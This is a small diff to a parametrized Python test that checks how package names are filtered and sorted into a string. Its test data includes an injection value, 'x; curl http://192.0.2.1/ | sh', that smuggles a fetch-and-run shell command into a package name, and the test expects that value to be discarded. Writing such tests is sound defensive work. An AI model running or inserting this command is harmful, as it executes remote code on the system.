@@ -91,7 +91,10 @@ def test_a_host_without_virtualization_is_named(tmp_path: Path) -> None:
     ("said", "named"),
     [
         (["image"], ""),
-        (["redis-tools", "openssl"], "openssl redis-tools"),
+        (
+            ["util-linux", "supervisor", "redis-tools", "redis-server", "openssl"],
+            "openssl redis-server redis-tools supervisor util-linux",
+        ),
         (["openssl", "x; curl http://192.0.2.1/ | sh", "image"], "openssl"),
         (["x; curl http://192.0.2.1/ | sh"], ""),
     ],
